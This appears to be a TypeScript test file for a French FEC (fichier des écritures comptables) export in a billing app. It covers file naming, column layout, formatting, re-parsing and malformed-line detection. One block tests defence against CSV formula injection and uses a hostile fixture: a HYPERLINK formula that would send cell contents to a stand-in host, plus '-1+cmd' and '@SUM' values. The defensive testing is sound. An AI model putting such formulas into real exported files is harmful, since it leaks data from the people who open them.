import { describe, expect, it } from 'vitest';
import type { Payment } from '../billing/index.ts';
import { errorCodeOf } from '../errors/error-code-of.ts';
import { fecBncColumns, fecColumns, fecFileName, parseFec, parseFecFileName, writeFec } from './fec.ts';
import { expenseEntry, receiptFromPayment } from './journal.ts';

const cheque: Payment = {
  id: 'pay-1',
  date: '2026-03-10',
  amountCents: 5_000,
  method: { kind: 'cheque', bank: 'LCL', number: '1234567', drawer: 'Martin' },
  payer: { kind: 'patient', id: 'p1' },
};
const entries = [
  expenseEntry({
    id: 'x1',
    date: '2026-03-06',
    label: 'Téléphone\tmars',
    pieceRef: 'F-77',
    amountCents: 5_999,
    category: 'office_documentation_phone',
    professionalShare: 7_000,
    paymentMethod: 'card',
  }),
  receiptFromPayment(cheque, { id: 'e1', label: 'Honoraires', pieceRef: '2026-000010' }),
  receiptFromPayment({ ...cheque, id: 'old', date: '2025-12-31' }, { id: 'e0', label: 'previous year' }),
];
const options = {
  siren: '732829320',
  closingDate: '2026-12-31',
  fiscalYearStart: '2026-01-01',
  validatedOn: '2027-01-15',
};

describe('FEC export (LPF art. A47 A-1, billing.md § FEC)', () => {
  const { fileName, content, records } = writeFec(entries, options);

  it('is named <SIREN>FEC<AAAAMMJJ of closing>.txt', () => expect(fileName).toBe('732829320FEC20261231.txt'));
  it('refuses an invalid SIREN', () =>
    expect(errorCodeOf(() => fecFileName('732829321', '2026-12-31'))).toBe('invalid_siren'));
  it('reads its file name back', () =>
    expect(parseFecFileName(fileName)).toEqual({ siren: '732829320', closingDate: '2026-12-31' }));

  it('has the 18 columns in order then the 4 cash-basis BNC columns', () => {
    expect(fecColumns).toHaveLength(18);
    expect(fecBncColumns).toHaveLength(22);
    expect(content.split('\r\n')[0]).toBe(
      'JournalCode\tJournalLib\tEcritureNum\tEcritureDate\tCompteNum\tCompteLib\tCompAuxNum\tCompAuxLib\tPieceRef\tPieceDate\tEcritureLib\tDebit\tCredit\tEcritureLet\tDateLet\tValidDate\tMontantdevise\tIdevise\tDateRglt\tModeRglt\tNatOp\tIdClient',
    );
  });
  it('writes one line per entry line, only for the fiscal year, numbered in date order', () => {
    expect(records).toHaveLength(5);
    expect(records.map((r) => [r.EcritureNum, r.CompteNum])).toEqual([
      ['1', '626'],
      ['1', '108'],
      ['1', '512'],
      ['2', '512'],
      ['2', '706'],
    ]);
  });
  it('writes dates as AAAAMMJJ and amounts with a decimal comma', () => {
    expect(records[0]).toMatchObject({
      EcritureDate: '20260306',
      Debit: '41,99',
      Credit: '0,00',
      ValidDate: '20270115',
    });
    expect(records[4]).toMatchObject({
      Credit: '50,00',
      DateRglt: '20260310',
      ModeRglt: 'Chèque',
      PieceRef: '2026-000010',
    });
  });
  it('keeps tabs out of fields', () => expect(records[0]!.EcritureLib).toBe('Téléphone mars'));
  it('separates fields by tab and ends lines with CRLF', () => {
    const lines = content.split('\r\n');
    expect(lines.at(-1)).toBe('');
    for (const line of lines.slice(0, -1)) expect(line.split('\t')).toHaveLength(22);
  });

  it('re-reads its own file without problems, debit = credit', () => {
    const check = parseFec(content);
    expect(check.problems).toEqual([]);
    expect(check.records).toEqual(records);
    expect(check.totalDebitCents).toBe(10_999);
    expect(check.totalCreditCents).toBe(10_999);
  });
  it('accepts | as the separator', () =>
    expect(parseFec(content.replaceAll('\t', '|')).problems).toEqual([]));
  it('accepts an 18-column FEC', () => {
    const eighteen = content
      .split('\r\n')
      .map((l) => l.split('\t').slice(0, 18).join('\t'))
      .join('\r\n');
    expect(parseFec(eighteen).problems).toEqual([]);
  });

  const broken: [string, (lines: string[]) => void, string][] = [
    ['an unbalanced entry', (l) => (l[5] = l[5]!.replace('\t50,00\t', '\t50,01\t')), 'fec_entry_unbalanced'],
    [
      'a line with a missing column',
      (l) => (l[2] = l[2]!.split('\t').slice(0, 21).join('\t')),
      'fec_column_count',
    ],
    ['an impossible date', (l) => (l[1] = l[1]!.replace('20260306', '20260231')), 'fec_date_invalid'],
    ['an amount with a decimal point', (l) => (l[1] = l[1]!.replace('41,99', '41.99')), 'fec_amount_invalid'],
    [
      'a header out of order',
      (l) => (l[0] = l[0]!.replace('JournalCode\tJournalLib', 'JournalLib\tJournalCode')),
      'fec_header_invalid',
    ],
  ];
  for (const [name, breakIt, code] of broken) {
    it(`finds ${name}`, () => {
      const lines = content.split('\r\n');
      breakIt(lines);
      expect(parseFec(lines.join('\r\n')).problems.map((p) => p.code)).toContain(code);
    });
  }
});

describe('FEC export opened in a spreadsheet (OWASP CSV injection)', () => {
  const hostile = expenseEntry({
    id: 'x2',
    date: '2026-04-02',
    label: '=HYPERLINK("http://x.example/?d="&A1;"facture")',
    pieceRef: '-1+cmd',
    amountCents: 1_200,
    category: 'office_documentation_phone',
    paymentMethod: 'transfer',
    supplier: '@SUM(A1:A9)',
  });
  // A correcting entry written with negative amounts, as some imported books hold.
  const negative = {
    ...receiptFromPayment(cheque, { id: 'e2', label: 'Extourne', pieceRef: '2026-000011' }),
    lines: [
      { account: '512', accountLabel: 'Banque', debitCents: -2_500, creditCents: 0 },
      { account: '706', accountLabel: 'Honoraires', debitCents: 0, creditCents: -2_500 },
    ],
  };
  const { content, records } = writeFec([hostile, negative], options);

  it('puts an apostrophe before every text field that begins like a formula', () => {
    expect(records.find((r) => r.JournalCode === 'DE')).toMatchObject({
      EcritureLib: `'=HYPERLINK("http://x.example/?d="&A1;"facture")`,
      PieceRef: "'-1+cmd",
      IdClient: "'@SUM(A1:A9)",
    });
    expect(content).not.toMatch(/\t[=+@-][^\d]/);
  });
  it('keeps amounts numbers, negative ones included', () => {
    expect(records.filter((r) => r.JournalCode === 'RE').map((r) => [r.Debit, r.Credit])).toEqual([
      ['-25,00', '0,00'],
      ['0,00', '-25,00'],
    ]);
  });
  it('stays a valid FEC', () => {
    const check = parseFec(content);
    expect(check.problems).toEqual([]);
    expect(check.records).toEqual(records);
  });
});
